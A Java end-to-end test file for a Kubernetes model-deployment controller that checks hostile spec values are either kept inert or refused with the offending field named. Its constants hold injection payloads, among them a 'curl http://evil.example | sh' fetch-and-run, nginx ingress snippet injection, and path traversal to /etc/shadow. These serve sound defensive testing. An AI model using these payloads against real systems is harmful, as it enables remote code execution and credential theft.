package io.primehub.phdeploy.testkit.e2e;

import static io.primehub.phdeploy.testkit.assertions.PhDeployAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.EnvVar;
import io.fabric8.kubernetes.api.model.PodSpec;
import io.fabric8.kubernetes.api.model.apps.Deployment;
import io.fabric8.kubernetes.api.model.networking.v1.HTTPIngressPath;
import io.fabric8.kubernetes.api.model.networking.v1.Ingress;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.primehub.phdeploy.core.model.FailureReason;
import io.primehub.phdeploy.core.model.ImmutablePhDeploymentSpec;
import io.primehub.phdeploy.core.model.ImmutablePredictor;
import io.primehub.phdeploy.core.model.PhDeploymentSpec;
import io.primehub.phdeploy.core.model.Phase;
import io.primehub.phdeploy.core.naming.OwnedNames;
import io.primehub.phdeploy.core.validation.InvalidSpecException;
import io.primehub.phdeploy.core.validation.Violation;
import io.primehub.phdeploy.k8s.auth.ClientCredentials;
import io.primehub.phdeploy.k8s.client.PhDeployments;
import io.primehub.phdeploy.k8s.desired.IngressAnnotations;
import io.primehub.phdeploy.k8s.resource.PhDeployment;
import io.primehub.phdeploy.testkit.InMemoryCluster;
import io.primehub.phdeploy.testkit.gateway.ModelRegistry;
import io.primehub.phdeploy.testkit.gateway.PredictionGateway;
import io.primehub.phdeploy.testkit.junit.PhDeployTest;
import io.primehub.phdeploy.testkit.server.Verb;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.Test;

/**
 * Hostile values through the whole path: the SDK, the API server, the controller and the objects
 * it writes. What the validator lets through stays data; what it refuses, the controller refuses
 * too when a client skipped the SDK, with the field to fix rather than an endless retry.
 */
@PhDeployTest
class HostileSpecTest {

  private static final String SHELL = "$(curl -s http://evil.example | sh) `reboot` '\"; #";
  private static final String NGINX =
      "\"; } location / { proxy_pass http://evil.example; } # 模型 \u202E";
  private static final String LINES =
      "retrained\nnginx.ingress.kubernetes.io/configuration-snippet: return 200 evil;\n";

  @Test
  void hostileFreeTextDeploysAndStaysData(
      PhDeployments deployments, ModelRegistry models, PredictionGateway gateway,
      KubernetesClient client) {
    models.serve(Journey.IMAGE, Journey.summing());
    PhDeploymentSpec fixture = Journey.fixture().getSpec();
    PhDeploymentSpec hostile = ImmutablePhDeploymentSpec.copyOf(fixture)
        .withDisplayName(SHELL)
        .withUserName(NGINX)
        .withDescription(LINES)
        .withEnv(new EnvVar("GREETING", SHELL + LINES, null))
        .withPredictors(ImmutablePredictor.copyOf(fixture.predictor())
            .withMetadata(Map.of("NOTES", NGINX + LINES)));

    deployments.create(Journey.NAME, hostile);
    deployments.makePrivate(Journey.NAME);
    ClientCredentials scorer = deployments.addClient(Journey.NAME, "scorer");
    deployments.update(Journey.NAME, spec -> spec, LINES + SHELL);
    deployments.awaitPhase(Journey.NAME, Phase.DEPLOYED, Journey.WAIT);
    Journey.awaitRoute(gateway, "private and ready",
        route -> route.privateEndpoint().isPresent() && route.readyPods().size() == 2);

    assertThat(Journey.predict(gateway.predictionUrl(Journey.NAME), Journey.ROWS, scorer)
        .statusCode()).isEqualTo(200);
    Ingress ingress = client.network().v1().ingresses().inNamespace(Journey.NAMESPACE)
        .withName(OwnedNames.of(Journey.NAME)).get();
    assertThat(ingress.getMetadata().getAnnotations()).allSatisfy((key, value) -> {
      assertThat(key).doesNotContain("snippet");
      assertThat(value).doesNotContain("evil");
    });
    assertThat(ingress.getMetadata().getAnnotations())
        .containsEntry(IngressAnnotations.AUTH_SECRET, OwnedNames.of(Journey.NAME));
    assertThat(ingress.getSpec().getRules().get(0).getHttp().getPaths())
        .extracting(HTTPIngressPath::getPath)
        .containsExactly("/deployment/" + Journey.NAME + "/(.+)");
    Deployment deployment = Verdicts.deploymentOf(client, Journey.NAME);
    PodSpec pod = deployment.getSpec().getTemplate().getSpec();
    assertThat(pod.getContainers()).allSatisfy(container -> {
      assertThat(container.getCommand()).as(container.getName()).isEmpty();
      assertThat(container.getArgs()).as(container.getName()).isEmpty();
    });
    assertThat(pod.getContainers()).filteredOn(container -> container.getName().equals("model"))
        .flatExtracting(Container::getEnv)
        .contains(new EnvVar("GREETING", SHELL + LINES, null));
    assertThat(deployment.getSpec().getTemplate().getMetadata().getAnnotations())
        .allSatisfy((key, value) -> assertThat(value).doesNotContain("evil"));
  }

  /** Model URIs the validator refuses, some of which a controller could not even build. */
  private static final List<String> HOSTILE_URIS = List.of(
      "pvc://models/../../etc/shadow", "nfs://files.example/export/../..", "phfs://../../root",
      "pvc:///models/spam", "gs://bucket/$(id)", "s3://bucket/`id`", "https://h/m;reboot");

  /** Names of deployments and of endpoint clients that must be refused. */
  private static final List<String> HOSTILE_NAMES =
      List.of("$(id)", "a:b", "alice\nbob:$6$x", "../admin", "ali ce", "élodie", "x".repeat(254));

  @Test
  void aModelUriTheSdkRefusesFailsAsInvalidSpecWhenWrittenAnotherWay(
      PhDeployments deployments, KubernetesClient client) {
    PhDeploymentSpec fixture = Journey.fixture().getSpec();
    for (int i = 0; i < HOSTILE_URIS.size(); i++) {
      String name = uriCase(i);
      PhDeploymentSpec hostile = ImmutablePhDeploymentSpec.copyOf(fixture).withPredictors(
          ImmutablePredictor.copyOf(fixture.predictor()).withModelURI(HOSTILE_URIS.get(i)));
      assertRefused(() -> deployments.create(name, hostile), "spec.predictors[0].modelURI");
      // As kubectl or an older tool would write it, without the SDK's validation.
      PhDeployment written = PhDeployment.of(Journey.NAMESPACE, name, hostile);
      client.resources(PhDeployment.class).inNamespace(Journey.NAMESPACE).resource(written)
          .create();
    }

    for (int i = 0; i < HOSTILE_URIS.size(); i++) {
      assertThat(Verdicts.await(client, uriCase(i), Phase.FAILED)).as(HOSTILE_URIS.get(i))
          .isFailedWith(FailureReason.INVALID_SPEC)
          .hasMessageContaining("spec.predictors[0].modelURI");
      assertThat(Verdicts.deploymentOf(client, uriCase(i))).as("nothing run for it").isNull();
    }
  }

  /** Hostile values in fields that name things, each with the path its refusal must name. */
  static Stream<Map.Entry<String, UnaryOperator<ImmutablePhDeploymentSpec>>> hostileFields() {
    return Stream.of(
        inPredictor("spec.predictors[0].name", p -> p.withName("$(reboot)")),
        inPredictor("spec.predictors[0].name", p -> p.withName("../../etc")),
        inPredictor("spec.predictors[0].imagePullSecret", p -> p.withImagePullSecret("reg;rm")),
        inPredictor("spec.predictors[0].imagePullSecret", p -> p.withImagePullSecret("a\nb")),
        inPredictor("spec.predictors[0].modelImage", p -> p.withModelImage("img:`id`")),
        inPredictor("spec.predictors[0].modelImage", p -> p.withModelImage("img:1 --privileged")),
        inPredictor("spec.predictors[0].instanceType", p -> p.withInstanceType("cpu\nx: y")),
        inPredictor("spec.predictors[0].instanceType", p -> p.withInstanceType("cpu only")),
        inPredictor("spec.predictors[0].metadata[\"a b\"]",
            p -> p.withMetadata(Map.of("a b", "1"))),
        inPredictor("spec.predictors[0].metadata[\"x\"]",
            p -> p.withMetadata(Map.of("x", "evil ".repeat(200)))),
        Map.entry("spec.env[0].name", spec -> spec.withEnv(new EnvVar("A;$(id)", "1", null))),
        Map.entry("spec.displayName",
            spec -> spec.withDisplayName("spam\nnginx.ingress.kubernetes.io/server-snippet: x")),
        Map.entry("spec.groupName", spec -> spec.withGroupName("phusers\u0000evil")),
        Map.entry("spec.updateMessage", spec -> spec.withUpdateMessage("evil ".repeat(300))));
  }

  @Test
  void aHostileNameIsRefusedByTheSdkNamingTheFieldAndNothingIsWritten(
      PhDeployments deployments, InMemoryCluster cluster) {
    PhDeploymentSpec fixture = Journey.fixture().getSpec();
    hostileFields().forEach(field -> assertRefused(() -> deployments.create(Journey.NAME,
        field.getValue().apply(ImmutablePhDeploymentSpec.copyOf(fixture))), field.getKey()));
    for (String name : HOSTILE_NAMES) {
      assertRefused(() -> deployments.create(name, fixture), "metadata.name");
    }
    assertThat(cluster.journal().snapshot().excludingSimulators().count(Verb.CREATE,
        PhDeployment.PLURAL)).as("nothing reached the server").isZero();

    Journey.deployFixture(deployments);
    for (String name : HOSTILE_NAMES) {
      assertRefused(() -> deployments.addClient(Journey.NAME, name),
          "spec.endpoint.clients[0].name");
    }
    assertThat(deployments.clients(Journey.NAME)).isEmpty();
  }

  private static void assertRefused(ThrowingCallable write, String path) {
    assertThatExceptionOfType(InvalidSpecException.class).as(path).isThrownBy(write)
        .satisfies(refused -> assertThat(refused.violations()).extracting(Violation::path)
            .as(refused.getMessage()).containsExactly(path));
  }

  private static String uriCase(int index) {
    return "hostile-uri-" + index;
  }

  private static Map.Entry<String, UnaryOperator<ImmutablePhDeploymentSpec>> inPredictor(
      String path, UnaryOperator<ImmutablePredictor> change) {
    return Map.entry(path, spec ->
        spec.withPredictors(change.apply(ImmutablePredictor.copyOf(spec.predictor()))));
  }
}
